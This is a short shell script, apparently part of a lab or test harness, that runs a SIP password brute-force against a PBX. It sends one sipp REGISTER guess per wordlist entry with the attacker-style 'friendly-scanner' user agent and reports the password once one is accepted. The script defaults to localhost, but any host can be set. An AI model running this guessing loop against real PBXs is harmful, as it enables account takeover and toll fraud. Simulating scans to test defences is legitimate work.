#!/bin/sh
# A SIP password scan as attackers run it (User-Agent friendly-scanner): one REGISTER guess per word
# of WORDLIST (default passwords.txt beside this script; # comments skipped) for USER, until one is
# accepted. Prints one line per guess, then "FOUND <user> <password>" (exit 0) or "not found" (1).
#   bruteforce.sh USER [WORDLIST]
# PBX=host:port (default 127.0.0.1:5060), LOCAL_IP (default 127.0.0.1).
set -eu
here=$(cd "$(dirname "$0")" && pwd)
user=${1:?usage: bruteforce.sh USER [WORDLIST]}
words=${2:-$here/passwords.txt}
work=$(mktemp -d "${TMPDIR:-/tmp}/tollgate-scan.XXXXXX")
trap 'rm -rf "$work"' EXIT
found=
while IFS= read -r guess || [ -n "$guess" ]; do
  case "$guess" in ''|'#'*) continue;; esac
  rm -f "$work/guess.log"
  sipp "${PBX:-127.0.0.1:5060}" -sf "$here/reg_bruteforce.xml" -i "${LOCAL_IP:-127.0.0.1}" -ci "${LOCAL_IP:-127.0.0.1}" -p 0 -mp 0 -m 1 \
    -s "$user" -au "$user" -ap "$guess" -trace_logs -log_file "$work/guess.log" \
    -trace_err -error_file "$work/errors.log" -nostdin -timeout 30s >"$work/screen.log" 2>&1 || true
  result=$(cat "$work/guess.log" 2>/dev/null || true)
  echo "guess $user:$guess -> ${result:-no answer}"
  case "$result" in accepted*) found=$guess; break;; esac
done <"$words"
if [ -n "$found" ]; then
  echo "FOUND $user $found"
  exit 0
fi
echo "not found"
exit 1
